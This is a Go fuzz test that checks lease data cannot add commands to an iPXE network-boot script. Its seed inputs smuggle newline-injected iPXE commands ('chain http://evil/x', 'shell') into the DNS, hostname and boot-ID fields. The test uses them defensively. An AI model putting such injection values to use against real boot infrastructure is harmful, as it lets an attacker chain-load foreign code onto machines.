package pxe

import (
	"strings"
	"testing"
	"time"

	"github.com/rackflow/rackflow/pxe/lease"
)

// FuzzRenderLiveAddsNoLine: whatever a lease holds, once it passes
// Validate the live script is exactly its four lines, and the kernel line
// ends with what the service's own config appends. Nothing from the
// inventory (through the worker's PUT) can add a command such as
// "chain http://elsewhere/" to an iPXE script. The seeds include the
// review's IPv6-zone DNS entry, which Validate used to accept.
func FuzzRenderLiveAddsNoLine(f *testing.F) {
	f.Add("52:54:00:12:34:56", "10.0.0.7", "255.255.255.0", "10.0.0.1", "10.0.0.53", "node07", "boot-1")
	f.Add("52:54:00:12:34:56", "10.0.0.7", "255.255.255.0", "10.0.0.1", "fe80::1%x\nchain http://evil/x", "node07", "b")
	f.Add("52:54:00:12:34:56", "10.0.0.7", "255.255.255.0", "10.0.0.1", "10.0.0.53", "node07\nchain http://evil/x", "b")
	f.Add("52:54:00:12:34:56", "10.0.0.7", "255.255.255.0", "10.0.0.1", "10.0.0.53", "node07", "b\nshell")
	f.Add("52:54:00:12:34:56", "10.0.0.7\n", "255.255.255.0", "10.0.0.1 ", "fe80::1%eth0", "a.b", "b")
	f.Fuzz(func(t *testing.T, mac, ip, netmask, gateway, dns, hostname, bootID string) {
		l := lease.Lease{MAC: mac, IP: ip, Netmask: netmask, Gateway: gateway, DNS: []string{dns},
			Hostname: hostname, Profile: lease.ProfileLive, BootID: bootID}
		if l.Validate(time.Now()) != nil {
			return
		}
		l = l.Normalized()
		const tail = "console=ttyS0,115200"
		script := RenderLive(LiveBoot{Lease: l, BaseURL: "http://10.0.0.2:8080", Kernel: "vmlinuz", Initrd: "initrd.img",
			Cmdline: tail, HostKeyToken: strings.Repeat("ab", 32)})
		lines := strings.Split(strings.TrimSuffix(script, "\n"), "\n")
		if len(lines) != 4 || lines[0] != "#!ipxe" || !strings.HasPrefix(lines[1], "kernel ") ||
			lines[2] != "initrd http://10.0.0.2:8080/files/initrd.img" || lines[3] != "boot" {
			t.Fatalf("lease %+v renders a script of another shape:\n%s", l, script)
		}
		if !strings.HasSuffix(lines[1], " "+tail) || strings.ContainsAny(lines[1], "\r\x00") {
			t.Fatalf("kernel line altered: %q", lines[1])
		}
	})
}
